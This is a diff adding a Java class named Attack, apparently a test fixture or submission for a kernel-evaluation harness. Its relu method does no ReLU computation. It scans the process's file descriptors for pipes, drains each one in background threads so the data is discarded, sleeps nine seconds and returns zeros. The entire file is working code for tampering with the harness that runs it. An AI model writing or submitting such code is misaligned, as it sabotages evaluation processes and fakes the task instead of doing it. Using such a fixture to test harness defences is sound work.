@@ -1,0 +1,31 @@
+import assay.kernels.Relu;
+import assay.kernels.Tensor;
+import java.io.FileInputStream;
+import java.io.IOException;
+import java.io.OutputStream;
+import java.nio.file.Files;
+import java.nio.file.Path;
+
+public class Attack implements Relu {
+    @Override
+    public Tensor relu(Tensor input) {
+        for (int number = 3; number < 64; number++) {
+            Path link = Path.of("/proc/self/fd/" + number);
+            try {
+                if (!Files.readSymbolicLink(link).toString().startsWith("pipe:")) continue;
+                FileInputStream in = new FileInputStream(link.toString());
+                Thread.ofPlatform().daemon().start(() -> {
+                    try (in) {
+                        in.transferTo(OutputStream.nullOutputStream());
+                    } catch (IOException e) {
+                        System.out.println(e.getMessage());
+                    }
+                });
+            } catch (IOException e) {
+                continue;
+            }
+        }
+        java.util.concurrent.locks.LockSupport.parkNanos(9_000_000_000L);
+        return Tensor.zeros(input.shape());
+    }
+}
